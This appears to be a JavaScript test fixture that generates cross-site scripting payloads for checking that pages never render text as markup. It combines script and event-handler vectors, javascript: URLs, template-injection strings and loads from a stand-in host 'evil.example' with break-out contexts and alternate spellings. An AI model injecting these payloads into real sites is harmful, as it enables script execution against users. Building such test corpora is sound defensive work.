// SPDX-License-Identifier: GPL-3.0-or-later

/** Markup that would run if any page took a text for markup: each in every context it may have to break out of, in several spellings. */
const VECTORS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script href=data:,alert(1) /></svg>',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<iframe src="javascript:parent.alert(1)"></iframe>',
  '<a href="javascript:alert(1)">x</a>',
  '<details open ontoggle=alert(1)>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<body onpageshow=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<style>@import "//evil.example/x.css";</style>',
  '<base href=//evil.example/>',
  '<form action=//evil.example/><button>go</button></form>',
  '<object data=javascript:alert(1)></object>',
  '<template><script>alert(1)</script></template>',
  '<marquee onstart=alert(1)>x</marquee>',
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
];

const CONTEXTS = [
  (text) => text,
  (text) => `">${text}`,
  (text) => `'>${text}`,
  (text) => `</title>${text}`,
  (text) => `</textarea>${text}`,
  (text) => `--><!--${text}`,
  (text) => `</script>${text}`,
];

const SPELLINGS = [
  (text) => text,
  (text) => text.replaceAll('<', '&lt;'),
  (text) => text.replaceAll('<', '＜'),
  (text) => text.toUpperCase(),
];

/** All of them, each once, in an order that does not change. */
export const HOSTILE = [
  ...new Set(
    VECTORS.flatMap((vector) => CONTEXTS.flatMap((context) => SPELLINGS.map((spelling) => spelling(context(vector))))),
  ),
];

/** The same in handfuls. */
export function handfuls(size) {
  return Array.from({ length: Math.ceil(HOSTILE.length / size) }, (_, i) => HOSTILE.slice(i * size, (i + 1) * size));
}
